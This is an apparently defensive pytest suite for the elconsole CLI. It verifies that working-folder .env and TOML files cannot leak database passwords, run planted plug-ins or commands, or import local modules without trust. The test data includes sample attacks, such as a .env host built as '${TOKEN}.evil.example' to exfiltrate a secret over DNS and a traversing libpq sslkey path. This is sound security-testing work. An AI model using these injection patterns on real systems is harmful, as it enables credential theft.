"""The folder you stand in cannot take you over."""

from __future__ import annotations

import os
import stat
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from elconsole.config.load import load_settings
from elconsole.core.errors import ConfigurationError
from tests.conftest import REPOSITORY, RunCli
from tests.hostile.folders import NOBODY, UNREACHABLE, as_root, marking, user_settings, write
from tests.hostile.thief import Thief

pytestmark = pytest.mark.faults


# --- passwords -----------------------------------------------------------------------------

WAREHOUSE = "[sources.paint]\nhost = '127.0.0.1'\nport = 1\n[warehouse]\n"
OWN_ADDRESSES = {
    "a password": "host = '127.0.0.1'\nport = 1\nuser = 'me'\ndbname = 'd'\npassword = 'hunter2'\n",
    "a dsn": "dsn = 'postgresql://me:hunter2@127.0.0.1:1/d'\n",
    "a dsn with a number": "dsn = 'host=x hostaddr=127.0.0.1 port=1 user=me password=hunter2'\n",
    "a service": "dsn = 'service=mine'\n",
}


@pytest.mark.parametrize("own", OWN_ADDRESSES.values(), ids=OWN_ADDRESSES)
@pytest.mark.parametrize("layer", [".env", "environment"])
@pytest.mark.parametrize("key", ["port", "address", "dsn"])
def test_no_password_follows_to_an_address_that_a_higher_layer_names(
    run_cli: RunCli, home: Path, here: Path, thief: Thief, own: str, layer: str, key: str
) -> None:
    user_settings(home, WAREHOUSE + own)
    service = "[mine]\nhost=127.0.0.1\nport=1\nuser=me\ndbname=d\npassword=hunter2\n"
    services = write(home / "services", service)
    named = {
        "port": {"PORT": str(thief.port)},
        "address": {"HOST": "127.0.0.1", "PORT": str(thief.port)},
        "dsn": {"DSN": f"host=127.0.0.1 port={thief.port} user=me"},
    }[key]
    variables = {f"ELCONSOLE_WAREHOUSE__{name}": value for name, value in named.items()}
    env = {"PGSERVICEFILE": str(services), "PGCONNECT_TIMEOUT": "5"}
    if layer == ".env":
        write(here / ".env", "".join(f"{name}='{value}'\n" for name, value in variables.items()))
    else:
        env |= variables
    run_cli("check", env=env)
    assert thief.visits
    assert thief.passwords == []


def test_a_password_beside_the_address_is_sent_and_one_left_behind_is_told(
    run_cli: RunCli, home: Path, here: Path, thief: Thief
) -> None:
    user_settings(home, WAREHOUSE + OWN_ADDRESSES["a password"])
    write(here / ".env", f"ELCONSOLE_WAREHOUSE__PORT={thief.port}\n")
    told = run_cli("check").stderr
    assert "warehouse: the password in" in told
    assert ".env names" in told
    beside = {"ELCONSOLE_WAREHOUSE__PORT": str(thief.port), "ELCONSOLE_WAREHOUSE__PASSWORD": "mine"}
    run_cli("check", env=beside)
    assert set(thief.passwords) == {"mine"}


def test_a_layer_that_repeats_the_address_keeps_the_password(home: Path, here: Path) -> None:
    user_settings(home, WAREHOUSE + OWN_ADDRESSES["a password"])
    write(here / ".env", "ELCONSOLE_WAREHOUSE__PORT=1\nELCONSOLE_WAREHOUSE__DBNAME=other\n")
    parameters = load_settings(environ={}).settings.warehouse.connection_parameters()
    assert parameters["password"] == "hunter2"
    assert parameters["dbname"] == "other"


def test_the_public_passwords_of_the_plant_follow_it_to_another_port(here: Path) -> None:
    """They stand in the documentation; one variable moves the plant and leaves the rest."""
    loaded = load_settings(environ={"ELCONSOLE_SOURCES__REFILLS__PORT": "15432"})
    refills = loaded.settings.sources["refills"].connection_parameters()
    assert (refills["port"], refills["password"]) == ("15432", "refills_password")
    assert loaded.warnings == ()


# --- whose file it is ----------------------------------------------------------------------


def of_nobody(path: Path) -> None:
    os.chown(path, NOBODY, NOBODY)


def open_to_all(path: Path) -> None:
    path.chmod(0o666)


def open_to_a_group(path: Path) -> None:
    os.chown(path, -1, NOBODY)
    path.chmod(0o660)


def folder_of_nobody(path: Path) -> None:
    os.chown(path.parent, NOBODY, NOBODY)


def folder_open_to_all(path: Path) -> None:
    path.parent.chmod(0o777)


def link_of_nobody(path: Path) -> None:
    goal = path.rename(path.parent.parent / "mine")
    path.symlink_to(goal)
    os.chown(path, NOBODY, NOBODY, follow_symlinks=False)


def link_to_a_file_of_nobody(path: Path) -> None:
    goal = path.rename(path.parent.parent / "theirs")
    of_nobody(goal)
    path.symlink_to(goal)


STRANGERS: list[tuple[Callable[[Path], None], str]] = [
    (of_nobody, "user 65534"),
    (open_to_a_group, "0660"),
    (folder_of_nobody, "user 65534"),
    (link_of_nobody, "user 65534"),
    (link_to_a_file_of_nobody, "user 65534"),
]
NEEDING_ROOT = [pytest.param(*one, marks=as_root, id=one[0].__name__) for one in STRANGERS]
FOR_ANYBODY = [
    pytest.param(open_to_all, "0666", id="open_to_all"),
    pytest.param(folder_open_to_all, "0777", id="folder_open_to_all"),
]


@pytest.mark.parametrize(("name", "text"), [("elconsole.toml", UNREACHABLE), (".env", "")])
@pytest.mark.parametrize(("make_strange", "word"), [*NEEDING_ROOT, *FOR_ANYBODY])
def test_a_file_that_others_can_write_is_refused(
    run_cli: RunCli, here: Path, name: str, text: str,
    make_strange: Callable[[Path], None], word: str,
) -> None:  # fmt: skip
    path = write(here / name, text or "ELCONSOLE_WORKERS=2\n")
    make_strange(path)
    ended = run_cli("--headless", "sync")
    assert ended.returncode == 2
    assert str(path) in ended.stderr
    assert word in ended.stderr
    assert "mode 0" in ended.stderr
    assert "hint: look at it" in ended.stderr


def test_a_strange_file_that_says_nothing_to_us_is_left_alone(here: Path) -> None:
    write(here / ".env", "DJANGO_KEY=1\n", 0o666)
    assert load_settings(environ={}).used == ()


def test_the_users_private_group_is_nobody_else(
    here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where each user has a group of his own, umask 002 makes every file writable for it."""
    import grp
    import pwd

    write(here / "elconsole.toml", "workers = 3\n", 0o664)
    user = pwd.getpwuid(os.geteuid())
    own = grp.struct_group((user.pw_name, "x", user.pw_gid, []))
    shared = grp.struct_group((user.pw_name, "x", user.pw_gid, ["mallory"]))
    monkeypatch.setattr(grp, "getgrgid", lambda gid: own)
    assert load_settings(environ={}).settings.workers == 3
    monkeypatch.setattr(grp, "getgrgid", lambda gid: shared)
    with pytest.raises(ConfigurationError, match=r"the group .* can write to it"):
        load_settings(environ={})


def test_a_chosen_file_that_others_can_write_draws_a_warning(here: Path) -> None:
    path = write(here / "mine.toml", "workers = 3\n", 0o666)
    loaded = load_settings(path, environ={})
    assert "every user can write to it (mode 0666)" in " ".join(loaded.warnings)


POWERS = [
    "plugins = ['x']",
    "[notify]\non_failure = 'true'",
    "[warehouse]\npassword_command = ['true']",
    "[warehouse]\nhost = '${HOME}'",
    "[warehouse]\ndsn = 'service=x host=h'",
]


@pytest.mark.parametrize("text", POWERS)
@pytest.mark.parametrize("chosen", ["named", "the user's own"])
def test_a_chosen_file_that_others_can_write_runs_nothing(
    home: Path, here: Path, text: str, chosen: str
) -> None:
    path = write(here / "mine.toml", text) if chosen == "named" else user_settings(home, text)
    load_settings(path if chosen == "named" else None, environ={"HOME": "h"})
    path.chmod(0o666)
    with pytest.raises(ConfigurationError, match=r"every user can write to it .* asks for") as told:
        load_settings(path if chosen == "named" else None, environ={"HOME": "h"})
    assert "chmod go-w" in str(told.value.hint)


@pytest.mark.parametrize(("make_strange", "word"), [*NEEDING_ROOT, *FOR_ANYBODY])
def test_nor_does_one_that_others_can_exchange(
    here: Path, make_strange: Callable[[Path], None], word: str
) -> None:
    path = write(here / "folder" / "mine.toml", "plugins = ['x']")
    make_strange(path)
    with pytest.raises(ConfigurationError, match=word):
        load_settings(path, environ={})


# --- what it may run -----------------------------------------------------------------------


def settings_that_run(kind: str, mark: Path) -> tuple[str, str]:
    """A file's name and text, which leave a mark if they are heeded."""
    script = write(mark.parent / "library" / "script.py", marking(mark))
    command = f"{sys.executable} {script}"
    return {
        "plug-in in TOML": ("elconsole.toml", 'plugins = ["planted"]\n' + UNREACHABLE),
        "command in TOML": (
            "elconsole.toml",
            f'{UNREACHABLE}[notify]\non_failure = ["{command}"]\n',
        ),
        "command in .env": (".env", f"ELCONSOLE_NOTIFY__ON_FAILURE='{command}'\n"),
        "plug-in in .env": (".env", "ELCONSOLE_PLUGINS=planted\n"),
    }[kind]


KINDS = ("plug-in in TOML", "command in TOML", "command in .env", "plug-in in .env")


@pytest.fixture
def elsewhere(home: Path) -> tuple[Path, dict[str, str]]:
    """A mark, and an environment in which `import planted` leaves it."""
    mark = home / "mark"
    write(home / "library" / "planted.py", marking(mark))
    return mark, {"PYTHONPATH": f"{REPOSITORY}{os.pathsep}{home / 'library'}"}


@pytest.mark.parametrize("kind", KINDS)
def test_a_file_of_the_working_folder_runs_nothing_until_it_is_trusted(
    run_cli: RunCli, home: Path, here: Path, elsewhere: tuple[Path, dict[str, str]], kind: str
) -> None:
    mark, env = elsewhere
    user_settings(home, UNREACHABLE)
    name, text = settings_that_run(kind, mark)
    path = write(here / name, text)

    refused = run_cli("--headless", "sync", env=env)
    assert refused.returncode == 2
    assert f"{path} is not trusted" in refused.stderr
    assert ("planted" if "plug-in" in kind else sys.executable) in refused.stderr
    assert f"elconsole trust {path}" in refused.stderr
    assert not mark.exists()

    trusted = run_cli("trust", env=env)
    assert trusted.returncode == 0, trusted.stderr
    assert str(path) in trusted.stdout
    assert run_cli("--headless", "sync", env=env).returncode in (1, 3)
    assert mark.exists()

    mark.unlink()
    path.write_text(text + "# changed\n")
    assert run_cli("--headless", "sync", env=env).returncode == 2
    assert not mark.exists()


def test_trust_is_for_one_file_in_one_folder(
    run_cli: RunCli, home: Path, here: Path, elsewhere: tuple[Path, dict[str, str]]
) -> None:
    mark, env = elsewhere
    name, text = settings_that_run("command in TOML", mark)
    path = write(here / name, text)
    assert run_cli("trust", str(path)).returncode == 0
    copy = write(home / "other" / name, text)
    link = home / "third" / name
    link.parent.mkdir()
    link.symlink_to(path)
    for folder in (copy.parent, link.parent):
        assert run_cli("--headless", "sync", cwd=folder, env=env).returncode == 2
    assert not mark.exists()


def test_the_memory_of_trust_is_the_users_alone(run_cli: RunCli, home: Path, here: Path) -> None:
    write(here / "elconsole.toml", "plugins = ['x']\n" + UNREACHABLE)
    assert run_cli("trust").returncode == 0
    folder = home / ".local" / "state" / "elconsole" / "trusted"
    (record,) = folder.iterdir()
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    load_settings(environ={})
    record.chmod(0o666)
    with pytest.raises(ConfigurationError, match="is not trusted"):
        load_settings(environ={})


def test_a_chosen_file_needs_no_trust(
    run_cli: RunCli, home: Path, here: Path, elsewhere: tuple[Path, dict[str, str]]
) -> None:
    mark, env = elsewhere
    name, text = settings_that_run("command in TOML", mark)
    write(here / name, text)
    assert run_cli("--headless", "-c", name, "sync", env=env).returncode == 3
    assert mark.exists()
    mark.unlink()
    (here / name).unlink()
    user_settings(home, text)
    assert run_cli("--headless", "sync", env=env).returncode == 3
    assert mark.exists()


@as_root
def test_a_file_that_others_can_write_is_not_even_trusted_when_asked(
    run_cli: RunCli, here: Path
) -> None:
    path = write(here / "elconsole.toml", "plugins = ['x']\n")
    of_nobody(path)
    ended = run_cli("trust", str(path))
    assert ended.returncode == 2
    assert "user 65534" in ended.stderr


@pytest.mark.parametrize("words", [["trust"], ["trust", "missing/.env"], ["trust", "other.toml"]])
def test_trust_in_nothing_is_a_usage_error(run_cli: RunCli, here: Path, words: list[str]) -> None:
    ended = run_cli(*words)
    assert ended.returncode == 2
    assert "hint: " in ended.stderr
    assert "Traceback" not in ended.stderr


@pytest.mark.parametrize(
    "dsn", ["sslkey=../../evil:key", "sslkeylogfile=/tmp/keys"], ids=["engine", "keylog"]
)
def test_what_libpq_would_load_or_write_needs_trust_too(here: Path, dsn: str) -> None:
    write(here / "elconsole.toml", f"[warehouse]\ndsn = 'host=h {dsn}'\n")
    with pytest.raises(
        ConfigurationError, match=r"not trusted.*warehouse\.dsn|that libpq can read"
    ):
        load_settings(environ={})


def test_a_dotenv_carries_no_words_of_the_environment_away(
    here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A host's name is asked of a name server, which may be anybody's."""
    monkeypatch.setenv("TOKEN", "hunter2")
    write(here / ".env", "ELCONSOLE_WAREHOUSE__HOST=${TOKEN}.evil.example\n")
    with pytest.raises(ConfigurationError, match=r"not trusted.*ELCONSOLE_WAREHOUSE__HOST"):
        load_settings(environ={})


# --- what Python imports -------------------------------------------------------------------


@pytest.mark.parametrize("module", ["planted", "tomllib", "psycopg"])
def test_no_module_is_imported_from_the_working_folder(
    run_cli: RunCli, home: Path, here: Path, module: str
) -> None:
    mark = home / "mark"
    write(here / f"{module}.py", marking(mark))
    user_settings(home, 'plugins = ["planted"]\n' + UNREACHABLE)
    ended = run_cli("--headless", "sync")
    assert ended.returncode == 2
    assert 'plug-in "planted" can\'t be loaded' in ended.stderr
    assert not mark.exists()


# --- which files are in use ----------------------------------------------------------------


def test_config_and_v_name_every_file_in_use(run_cli: RunCli, home: Path, here: Path) -> None:
    own = user_settings(home, UNREACHABLE)
    dotenv = write(here / ".env", "ELCONSOLE_WORKERS=2\n")
    told = run_cli("config").stdout
    assert f"used: {own}" in told
    assert f"used: {dotenv}" in told
    assert f"looked for: {here / 'elconsole.toml'}" in told
    narrated = run_cli("-v", "--headless", "sync").stderr
    assert f"settings are read from {own}" in narrated
    assert f"settings are read from {dotenv}" in narrated


def test_who_stands_in_the_configuration_folder_has_chosen_its_files(
    run_cli: RunCli, home: Path, elsewhere: tuple[Path, dict[str, str]]
) -> None:
    mark, env = elsewhere
    folder = user_settings(home, UNREACHABLE).parent
    for kind in ("command in TOML", "command in .env"):
        name, text = settings_that_run(kind, mark)
        write(folder / name, text)
        assert run_cli("--headless", "sync", cwd=folder, env=env).returncode == 3
        assert mark.exists()
        mark.unlink()
        (folder / ".env").unlink(missing_ok=True)
